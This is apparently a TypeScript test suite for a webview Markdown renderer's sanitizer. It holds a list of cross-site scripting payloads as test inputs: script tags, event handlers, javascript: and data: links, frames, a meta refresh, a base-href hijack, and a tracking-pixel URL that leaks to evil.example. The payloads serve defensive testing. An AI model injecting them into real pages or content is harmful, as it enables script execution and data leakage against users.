import * as assert from 'node:assert/strict';
import { MarkdownRenderer } from '../../../src/webview/render/markdown';
import { allAttributes, makeWindow } from './harness';

function render(markdown: string): HTMLElement {
  const win = makeWindow();
  return new MarkdownRenderer(win.document, win).chunk(markdown);
}

/** Asserts nothing in `el` can run script, load a frame or navigate anywhere but http(s)/mailto. */
function assertInert(el: HTMLElement): void {
  const forbidden = ['script', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'svg', 'math', 'style', 'link', 'meta', 'base', 'img', 'video', 'audio', 'template'];
  for (const tag of forbidden) assert.equal(el.querySelector(tag), null, `<${tag}> survived: ${el.innerHTML}`);
  for (const { tag, name, value } of allAttributes(el)) {
    assert.ok(!/^on/i.test(name), `event handler ${name} on <${tag}>`);
    assert.notEqual(name, 'style', `style attribute on <${tag}>`);
    assert.ok(!['action', 'formaction', 'src', 'srcset', 'xlink:href', 'target'].includes(name), `${name} on <${tag}>`);
    if (name === 'href') assert.match(value, /^(https?:|mailto:)/i, `unsafe href ${value}`);
  }
}

describe('webview markdown rendering and sanitizing', () => {
  const hostile: Array<[string, string]> = [
    ['script tag', 'Hello <script>window.pwned = 1</script> world'],
    ['script block', '<script>\nwindow.pwned = 1\n</script>'],
    ['img onerror', '<img src=x onerror="window.pwned=1">'],
    ['onclick attribute', '<div onclick="window.pwned=1">click</div>'],
    ['javascript: link', '[click me](javascript:alert(1))'],
    ['javascript: link, entity-encoded', '[click](jav&#x09;ascript:alert(1))'],
    ['javascript: autolink', '<javascript:alert(1)>'],
    ['data: link', '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['vbscript: link', '[x](vbscript:msgbox(1))'],
    ['svg onload', '<svg onload="window.pwned=1"><circle r="1"/></svg>'],
    ['svg in markdown image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ['form action', '<form action="https://evil.example"><input name="q"><button formaction="javascript:alert(1)">go</button></form>'],
    ['style injection', '<style>body { display: none }</style><p style="position:fixed">x</p>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['base href', '<base href="https://evil.example/">'],
    ['link title breakout', '[a](https://example.com "title\\" onmouseover=\\"window.pwned=1")'],
    ['html in a table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
    ['remote image (tracking pixel)', '![pixel](https://evil.example/leak?secret=1)'],
  ];

  for (const [name, markdown] of hostile) {
    it(`neutralizes ${name}`, () => assertInert(render(markdown)));
  }

  it('shows raw HTML as the text the model wrote instead of parsing it', () => {
    const el = render('Use <div onclick="x()">this</div> carefully');
    assert.equal(el.querySelector('div div'), null);
    assert.match(el.textContent ?? '', /<div onclick="x\(\)">this<\/div>/);
  });

  it('keeps javascript: and data: links as inert text (no href)', () => {
    const el = render('[js](javascript:alert(1)) and [data](data:text/html,hi) and [ok](https://example.com/a)');
    const hrefs = Array.from(el.querySelectorAll('a[href]')).map((a) => a.getAttribute('href'));
    assert.deepEqual(hrefs, ['https://example.com/a']);
    assert.match(el.textContent ?? '', /js and data and ok/);
  });

  it('turns images into links (never loaded) labelled with the alt text', () => {
    const el = render('![diagram](https://example.com/d.png)');
    assert.equal(el.querySelector('img'), null);
    const link = el.querySelector('a');
    assert.equal(link?.getAttribute('href'), 'https://example.com/d.png');
    assert.equal(link?.textContent, '[image: diagram]');
  });

  it('highlights fenced code and adds Copy and Insert buttons outside the sanitized markup', () => {
    const el = render('```typescript\nconst x: number = 1; // note\n```');
    const block = el.querySelector('.code-block');
    assert.ok(block, 'code block frame');
    assert.equal(block.querySelector('.code-lang')?.textContent, 'typescript');
    assert.deepEqual(Array.from(block.querySelectorAll('button')).map((b) => b.getAttribute('data-action')), ['copy-code', 'insert-code']);
    const code = block.querySelector('pre code');
    assert.equal(code?.textContent, 'const x: number = 1; // note');
    assert.ok(code?.querySelector('.hljs-keyword'), 'keywords are highlighted');
    assert.ok(code?.querySelector('.hljs-comment'), 'comments are highlighted');
  });

  it('escapes code in unknown languages', () => {
    const el = render('```nonsense\n<script>alert(1)</script>\n```');
    assert.equal(el.querySelector('script'), null);
    assert.equal(el.querySelector('pre code')?.textContent, '<script>alert(1)</script>');
  });

  it('markdown cannot forge the code buttons (raw buttons are shown as text)', () => {
    const el = render('<button data-action="copy-code">Copy</button>');
    assert.equal(el.querySelector('button'), null);
  });

  it('puts the URL in the title of links for hover', () => {
    const el = render('See [docs](https://docs.example.com/x).');
    assert.equal(el.querySelector('a')?.getAttribute('title'), 'https://docs.example.com/x');
  });
});

describe('webview markdown batch rendering', () => {
  it('renders several blocks in one pass exactly as one at a time', () => {
    const win = makeWindow();
    const md = new MarkdownRenderer(win.document, win);
    const blocks = ['# One\n', 'Two with [a link](https://example.com) and <b>html</b>.\n\n', '```js\nlet x = 1;\n```\n', '- three\n- four\n'];
    const together = md.chunks(blocks).map((el) => el.outerHTML);
    const apart = blocks.map((b) => md.chunk(b).outerHTML);
    assert.equal(together.length, 4);
    assert.deepEqual(together, apart);
  });
});
